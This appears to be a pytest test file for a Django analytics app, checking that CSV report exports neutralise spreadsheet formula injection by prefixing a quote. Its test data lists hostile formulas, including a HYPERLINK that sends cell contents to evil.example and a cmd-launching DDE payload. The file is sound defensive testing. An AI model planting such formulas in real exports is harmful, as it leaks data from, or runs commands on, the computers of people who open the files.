"""CSV exports of the report pages cannot smuggle spreadsheet formulas (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from analytics.csv_export import csv_cell
from analytics.models import EvaluationRun
from analytics.rollups import daily_metrics_rollup
from tests.factories import EventFactory, ItemFactory, served_list

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_cell_that_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert csv_cell(text) == "'" + text


def test_plain_text_numbers_and_empty_cells_are_written_as_they_are():
    assert csv_cell("sku-1") == "sku-1"
    assert csv_cell("a=b") == "a=b"
    assert csv_cell(-3) == -3
    assert csv_cell(-0.5) == -0.5
    assert csv_cell(None) == ""


def _rows(client, url) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200, url
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.django_db
def test_every_report_csv_neutralises_formulas_from_item_ids_categories_and_run_labels(
    client, django_user_model
):
    client.force_login(django_user_model.objects.create_user("analyst", password="pw-1", is_staff=True))
    now = timezone.now()
    items = [
        ItemFactory(embedding=None, published_at=None, external_id=text, title=text, category_path=[text])
        for text in FORMULAS
    ]
    listed = served_list(items, surface="=cmd()", scenario="user", created_at=now - timedelta(minutes=5))
    for n, item in enumerate(items):
        EventFactory(
            session_id="s1",
            item=item,
            event_type="purchase",
            recommendation_id=listed.recommendation_id,
            timestamp=now - timedelta(minutes=4),
            event_id=f"p-{n}",
        )
    daily_metrics_rollup(day=now.date())
    run = EvaluationRun.objects.create(
        protocol="leave-one-out",
        label="=HYPERLINK(1)",
        dataset_fingerprint="f" * 64,
        metrics={"@popularity": {"recall@10": 0.1}},
    )
    exports = [
        "/reports/?format=csv&table=daily",
        "/reports/?format=csv&table=scenarios",
        "/reports/long-tail?format=csv&table=long_tail",
        "/reports/top?format=csv&table=top_items_impressions",
        "/reports/top?format=csv&table=top_items_conversions",
        "/reports/top?format=csv&table=top_categories_impressions",
        "/reports/top?format=csv&table=top_categories_conversions",
        f"/reports/evaluations?runs={run.pk}&format=csv&table=runs",
        f"/reports/evaluations?runs={run.pk}&format=csv&table=evaluations",
    ]
    seen = set()
    for url in exports:
        for row in _rows(client, url)[1:]:
            for cell in row:
                seen.add(cell)
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (url, cell)
                assert not (cell.startswith("-") and not _is_number(cell)), (url, cell)
    # the neutralised values are all there, readable as text
    for text in FORMULAS:
        assert "'" + text in seen
    assert {"'=HYPERLINK(1)", "'@popularity", "'=cmd()"} <= seen


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
